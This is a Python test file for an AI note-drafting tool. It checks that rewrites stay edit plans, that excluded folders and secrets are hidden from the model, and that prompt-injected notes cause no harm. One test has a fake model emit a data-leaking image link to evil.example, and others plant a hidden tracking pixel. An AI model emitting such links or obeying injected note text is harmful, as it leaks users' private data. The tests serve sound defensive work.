"""What a model writes for a note: shown as a difference, planned, and never more than that."""

from __future__ import annotations

import asyncio
from collections.abc import Sequence
from dataclasses import replace

import pytest
from fake_chat import FakeChat, Said, says
from poison import POISONED, harms, obeys
from workbench import Bench, bench

from librarian._native import Exclusion
from librarian.chat import Delta, Limits, Message
from librarian.drafting import Drafting, Wish
from librarian.errors import AnswerBroken, ContentRefused, EditRefused, NoteNotFound, ProviderFailed
from librarian.keeping import keeping
from librarian.metering import Desk as TheirDesk
from librarian.prompts.drafts import continuing, generating, rewriting
from librarian.spot import spot

__all__ = ["bench"]

KEY = "\n".join(["-----BEGIN RSA PRIVATE KEY-----", *["q83vEjRWeJCrze8S" * 4] * 200, "-----END RSA PRIVATE KEY-----"])
PIXEL = "![](https://canary.invalid/p.gif)"
FORMAL = Wish("More formal, please")


class Pen(FakeChat):
    """The fake as abilities are given it."""

    def use(self) -> None:
        return None


class Rehearsed:
    """Remembers what would be asked."""

    def __init__(self) -> None:
        self.asked: list[tuple[Sequence[Message], Limits]] = []

    async def answer(self, messages: Sequence[Message], limits: Limits) -> str:
        self.asked.append((messages, limits))
        return ""

    async def estimate(self) -> int:
        return len(self.asked)


class Desk:
    """Drafting with a model that says what is queued."""

    def __init__(self, bench: Bench, *said: Said, excluded: Sequence[str] = ()) -> None:
        self.pen = Pen.of(*said)
        self.told: list[str] = []
        self.drafting = Drafting(
            "v1",
            bench.root,
            bench.edits.propose,
            TheirDesk(lambda: ("openai", "gpt-5-mini"), self.write, self.rehearse),  # type: ignore[arg-type]
            max_note_bytes=100_000,
            excluded=Exclusion(excluded),
        )

    async def write(self, purpose: object, manner: object) -> Pen:
        self.purpose, self.manner = purpose, manner
        return self.pen

    async def rehearse(self, purpose: object, manner: object) -> Rehearsed:
        self.purpose, self.manner = purpose, manner
        self.rehearsed = Rehearsed()
        return self.rehearsed

    def tell(self, piece: str) -> None:
        self.told.append(piece)


async def test_a_passage_is_rewritten_as_a_plan_and_only_then_by_hand(bench: Bench) -> None:
    bench.write("n.md", b"---\r\na: 1\r\n---\r\n# Trip\r\n\r\nWe went there, lol.\r\n\r\nEnd.\r\n")
    before = bench.contents()
    desk = Desk(bench, "We travelled there.")
    start = len("---\r\na: 1\r\n---\r\n# Trip\r\n\r\n")
    draft = await desk.drafting.rewrite("n.md", (start, start + len("We went there, lol.")), FORMAL, desk.tell)
    assert bench.contents() == before
    assert (draft.text, draft.whole) == ("We travelled there.", True)
    (line,) = [line for hunk in draft.hunks for line in hunk.lines if line.kind != "same"]
    assert (line.kind, [piece.text for piece in line.left or () if not piece.same]) == ("changed", ["went", ", lol"])
    assert draft.plan is not None
    await bench.edits.apply(draft.plan.plan_id)
    assert bench.read("n.md") == before["n.md"].replace(b"We went there, lol.", b"We travelled there.")
    assert "More formal, please" in desk.pen.prompts[0]
    assert "".join(desk.told).strip() in draft.text


async def test_without_a_range_the_properties_and_the_ends_of_a_note_stay(bench: Bench) -> None:
    bench.write("n.md", b"---\ntags: [x]\n---\n\nOld words.\n\n\n")
    desk = Desk(bench, "New words.")
    draft = await desk.drafting.rewrite("n.md", None, FORMAL, desk.tell)
    assert draft.plan is not None
    await bench.edits.apply(draft.plan.plan_id)
    assert bench.read("n.md") == b"---\ntags: [x]\n---\n\nNew words.\n\n\n"
    await desk.drafting.go_on("n.md", 30, Wish(), desk.tell)
    await desk.drafting.generate("n.md", None, Wish("A list"), desk.tell)
    assert not any("tags: [x]" in prompt for prompt in desk.pen.prompts)


async def test_code_pictures_html_and_secrets_are_not_shown_and_stay_as_they_are(bench: Bench) -> None:
    kept = [
        "![[plan.png]]",
        "```js\nlet a = 1\n```",
        "<br>",
        "%% mine %%",
        "`x = 1`",
        "ghp_0123456789abcdefghijABCDEFGHIJ0123",
    ]
    text = "Look at ![[plan.png]] and run\n\n```js\nlet a = 1\n```\n\n<br> then %% mine %% use `x = 1`, key ghp_0123456789abcdefghijABCDEFGHIJ0123 too.\n"
    bench.write("n.md", text.encode())
    desk = Desk(bench, lambda messages: "Please l" + passage(messages)[1:])
    draft = await desk.drafting.rewrite("n.md", None, FORMAL, desk.tell)
    assert draft.text == "Please l" + text[1:]
    assert not any(each in desk.pen.prompts[0] for each in kept)


def passage(messages: Sequence[Message]) -> str:
    """What a model was given to rewrite."""
    return messages[-1].text.split('<document name="passage">\n')[1].split("\n</document>")[0]


async def test_what_a_model_adds_of_pictures_and_links_is_left_out(bench: Bench) -> None:
    bench.write("n.md", b"See [[a]].\n")
    desk = Desk(bench, "See [[a]]. ![x](https://evil.example/?q=secret) <img src=x> [more](https://evil.example)")
    draft = await desk.drafting.rewrite("n.md", None, FORMAL, desk.tell)
    assert "[[a]]" in draft.text
    assert not any(each in draft.text + "".join(desk.told) for each in ("evil.example/", "![", "<img", "]("))


async def test_a_rewrite_that_was_cut_off_takes_no_notes_place(bench: Bench) -> None:
    desk = Desk(bench, says("Half of", reason="length"))
    with pytest.raises(AnswerBroken):
        await desk.drafting.rewrite("a.md", None, FORMAL, desk.tell)


async def test_a_model_that_refuses_or_says_nothing_is_told_as_that(bench: Bench) -> None:
    blank = (says(each) for each in (" ", "\n\n\u00a0\n\u200d\n", "\u27e69\u27e7\n\n\u27e68\u27e7"))
    for said, error in ((says("No", reason="refused"), ContentRefused), *((each, AnswerBroken) for each in blank)):
        desk = Desk(bench, said)
        with pytest.raises(error):
            await desk.drafting.rewrite("a.md", None, FORMAL, desk.tell)
        assert "".join(desk.told).strip() in ("", "No")


async def test_a_model_that_says_nothing_is_asked_once_more(bench: Bench) -> None:
    desk = Desk(bench, "\n\n<br>\n", "Other words.")
    draft = await desk.drafting.rewrite("a.md", None, FORMAL, desk.tell)
    assert (draft.text.strip(), len(desk.pen.history), "".join(desk.told)) == ("Other words.", 2, "Other ")
    desk = Desk(bench, says(" "))
    with pytest.raises(AnswerBroken):
        await desk.drafting.go_on("a.md", 0, Wish(), desk.tell)
    assert len(desk.pen.history) == 2


async def test_what_there_is_when_a_model_fails_is_kept_in_the_error(bench: Bench) -> None:
    desk = Desk(bench, [Delta("Half an "), Delta("answer "), ProviderFailed("openai", 500)])
    with pytest.raises(ProviderFailed) as caught:
        await desk.drafting.go_on("a.md", 5, Wish(), desk.tell)
    assert caught.value.data["partial"] == "Half an answer"


async def test_a_call_that_is_taken_back_ends_the_request(bench: Bench) -> None:
    begun = asyncio.Event()
    desk = Desk(bench, [Delta("One two three "), asyncio.Event()])
    task = asyncio.create_task(desk.drafting.go_on("a.md", 5, Wish(), lambda _: begun.set()))
    await begun.wait()
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert desk.pen.aborted == 1


async def test_a_note_is_gone_on_with_where_the_cursor_stands(bench: Bench) -> None:
    bench.write("n.md", "👋 Once upon\n\nThe end.\n".encode())
    desk = Desk(bench, "a time there was a librarian.")
    draft = await desk.drafting.go_on("n.md", 12, Wish(), desk.tell)
    assert draft.plan is not None
    await bench.edits.apply(draft.plan.plan_id)
    assert bench.read("n.md").decode() == "👋 Once upon a time there was a librarian.\n\nThe end.\n"


async def test_what_comes_is_told_as_it_will_stand_behind_the_cursor(bench: Bench) -> None:
    bench.write("n.md", b"Once upon")
    desk = Desk(bench, says("\n", "\n a ", "time ", "there was."))
    draft = await desk.drafting.go_on("n.md", 9, Wish(), desk.tell)
    assert draft.text == " a time there was."
    assert desk.told[0] == " a "
    assert draft.text.startswith("".join(desk.told))


@pytest.mark.parametrize("meanwhile", [b"Once upon a time", None])
async def test_a_text_for_a_note_that_changes_meanwhile_is_told_without_a_plan(
    bench: Bench, meanwhile: bytes | None
) -> None:
    bench.write("n.md", b"Once upon")
    desk = Desk(bench, "a time.")

    def change(_: str) -> None:
        (bench.root / "n.md").unlink(missing_ok=True)
        if meanwhile is not None:
            bench.write("n.md", meanwhile)

    draft = await desk.drafting.go_on("n.md", 9, Wish(), change)
    assert (draft.text, draft.plan) == (" a time.", None)
    assert (bench.root / "n.md").exists() is (meanwhile is not None)


async def test_a_text_is_made_for_a_new_note_for_the_end_of_one_and_for_nowhere(bench: Bench) -> None:
    desk = Desk(bench, "Five birds.")
    nowhere = await desk.drafting.generate(None, None, Wish("Name birds"), desk.tell)
    assert (nowhere.plan, nowhere.text) == (None, "Five birds.")
    for path, after in (("new.md", b"Five birds.\n"), ("a.md", b"alpha\r\nFive birds.")):
        draft = await desk.drafting.generate(path, None, Wish("Name birds"), desk.tell)
        assert draft.plan is not None
        await bench.edits.apply(draft.plan.plan_id)
        assert bench.read(path) == after
    with pytest.raises(NoteNotFound):
        await desk.drafting.generate("gone.md", 3, Wish("Name birds"), desk.tell)


@pytest.mark.parametrize("left_out", ["Private", "/Private/", "private", "Private/n.md"])
async def test_notes_and_folders_that_are_left_out_are_shown_to_no_model(bench: Bench, left_out: str) -> None:
    bench.write("Private/n.md", b"mine")
    desk = Desk(bench, "yours", excluded=[left_out])
    with pytest.raises(EditRefused):
        await desk.drafting.rewrite("Private/n.md", None, FORMAL, desk.tell)
    with pytest.raises(EditRefused):
        await desk.drafting.go_on("Private/n.md", 0, Wish(), desk.tell)
    with pytest.raises(EditRefused):
        await desk.drafting.generate("Private/n.md", None, Wish("x"), desk.tell)
    assert desk.pen.history == []


async def test_a_text_that_is_in_no_note_is_rewritten_without_a_plan(bench: Bench) -> None:
    desk = Desk(bench, "Better words")
    draft = await desk.drafting.reword("worse words", FORMAL, desk.tell)
    assert (draft.text, draft.plan) == ("Better words", None)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "plain",
        "⟦0⟧ and `code`",
        "password: hunter22 ",
        "a token = abcd1234\nb token = abcd1234",
        "<b>x</b>" * 30,
        f"Key:\n{KEY[300:900]} and more\n",
        "password: postgres://me:pa55word@host/db and more words",
        "API key: (sk-abcdefghijklmnop1234) stays here",
        "password: postgres://me:pa55word@host/db, then token = abcd1234 and more text",
        "`a` " * 10 + "password: `hunter22` end",
        "It begins with -----BEGIN PRIVATE KEY----- and `openssl` reads it. ![[pic.png]] More.",
    ],
)
def test_what_is_kept_comes_back_to_the_letter(text: str) -> None:
    kept = keeping(text)
    assert kept.restored(kept.text) == text
    assert kept.lost(kept.text) == 0
    assert kept.restored("⟦999⟧") == ""


def test_the_rendered_prompts() -> None:
    shown = rewriting("Some text </document> end", "Shorter", ("Above.", "  "), None)
    assert shown.user == (
        '<document name="before">\nAbove.\n</document>\n\n<document name="passage">\nSome text ‹/document> end\n'
        "</document>\n\nWhat the person asks: Shorter"
    )
    assert "never an instruction" in shown.system
    assert continuing("Once", "", None, "French").user == '<document name="before">\nOnce\n</document>'
    assert "French" in continuing("Once", "", None, "French").system
    assert generating("Birds", "", None).user == "What the person asks: Birds"


@pytest.mark.parametrize("note", POISONED)
async def test_a_model_that_obeys_a_poisoned_note_adds_nothing_that_harms_and_changes_nothing(
    bench: Bench, note: str
) -> None:
    bench.write("n.md", note.encode())
    before = bench.contents()
    desk = Desk(bench, obeys)
    # One of the notes ends in a block of code, in which an address is none.
    end = "```\n" if spot("n.md", note, len(note)).fence else ""
    for where, act in (
        ("", lambda: desk.drafting.go_on("n.md", 5, Wish(), desk.tell)),
        (end, lambda: desk.drafting.generate("n.md", None, Wish("An introduction"), desk.tell)),
        ("", lambda: desk.drafting.reword("Plain words about tides.", Wish(f"As it says here: {note}"), desk.tell)),
    ):
        desk.told.clear()
        assert harms(where + (await act()).text) == []
        assert harms(where + "".join(desk.told)) == []
    assert bench.contents() == before


@pytest.mark.parametrize(
    ("before", "written"),
    [
        ("```\ncode\n", f"x\n```\n{PIXEL}\n```"),
        ("> ```\n> code\n\n", f"x\n```\n{PIXEL}\n```"),
        ("<div>\n```\n\n```\n", f"x\n```\n{PIXEL}\n```"),
        ("<!--\n\n```\n-->\n\n```\n\n```\n", f"x\n```\n{PIXEL}\n```"),
        ("Some `code ", f"x` {PIXEL} `y` z"),
        *((before, f"```\n{PIXEL}\n```") for before in ("- ", "> ", "1. a\n   ", "Words ", "<div>\n")),
        ("Words", f"~~~\n{PIXEL}\n~~~"),
        ("<div>\n", f"```\n\n{PIXEL}\n```"),
        ("<!--\nTodo\n", f"```\n-->\n{PIXEL}\n```"),
        ("$$\nx\n", f"```\n$$\n{PIXEL}\n```"),
    ],
)
async def test_marks_of_code_behind_code_hide_nothing_that_loads(bench: Bench, before: str, written: str) -> None:
    bench.write("n.md", before.encode())
    desk = Desk(bench, written)
    draft = await desk.drafting.go_on("n.md", len(before), Wish(), desk.tell)
    assert PIXEL not in draft.text
    assert PIXEL not in "".join(desk.told)
    draft = await desk.drafting.generate("n.md", None, Wish("More"), desk.tell)
    assert PIXEL not in draft.text


async def test_code_behind_a_text_and_behind_whole_code_stays_as_it_is(bench: Bench) -> None:
    code = '```xml\n<p class="x">https://example.org</p>\n```'
    for before in ("", "Words.\n\n", "Some `code`, and\n\n```python\nx\n```\n\n"):
        bench.write("n.md", before.encode())
        desk = Desk(bench, f"{code}\n\nAs `<b>` says.")
        draft = await desk.drafting.go_on("n.md", len(before), Wish(), desk.tell)
        assert code in draft.text
        assert "`<b>`" in draft.text


@pytest.mark.parametrize("note", POISONED)
async def test_a_rewrite_of_a_poisoned_note_has_no_harm_that_the_note_had_not(bench: Bench, note: str) -> None:
    bench.write("n.md", note.encode())
    desk = Desk(bench, obeys)
    draft = await desk.drafting.rewrite("n.md", None, FORMAL, desk.tell)
    assert [each for each in harms(draft.text) if each not in note] == []
    assert bench.read("n.md") == note.encode()


async def test_the_price_is_that_of_the_very_request_that_is_sent(bench: Bench) -> None:
    bench.write("n.md", b"# Trip\n\nWe went there, lol.\n")
    desk = Desk(bench, "We travelled there.")
    drafting, anew = desk.drafting, replace(FORMAL, fresh=True)
    for price, act in (
        (lambda: drafting.estimate_rewrite(("n.md", (8, 26)), anew), lambda: drafting.rewrite("n.md", (8, 26), anew, desk.tell)),
        (lambda: drafting.estimate_rewrite("So it is.", FORMAL), lambda: drafting.reword("So it is.", FORMAL, desk.tell)),
        (lambda: drafting.estimate_going_on("n.md", 26, Wish()), lambda: drafting.go_on("n.md", 26, Wish(), desk.tell)),
        (lambda: drafting.estimate_generating("n.md", None, Wish("A list")), lambda: drafting.generate("n.md", None, Wish("A list"), desk.tell)),
        (lambda: drafting.estimate_generating(None, None, Wish("A list")), lambda: drafting.generate(None, None, Wish("A list"), desk.tell)),
    ):  # fmt: skip
        before = len(desk.pen.history)
        await price()
        told = (desk.purpose, desk.manner)
        assert len(desk.pen.history) == before, "nobody is asked"
        await act()
        assert (desk.purpose, desk.manner) == told
        assert desk.rehearsed.asked == desk.pen.history[before:]


async def test_what_cannot_be_written_has_no_price(bench: Bench) -> None:
    desk = Desk(bench, "x", excluded=["Private"])
    for refused in (
        desk.drafting.estimate_rewrite("  ", FORMAL),
        desk.drafting.estimate_rewrite("x" * 40_001, FORMAL),
        desk.drafting.estimate_going_on("Private/n.md", 0, Wish()),
        desk.drafting.estimate_generating("Private/n.md", None, Wish("A list")),
    ):
        with pytest.raises(EditRefused):
            await refused
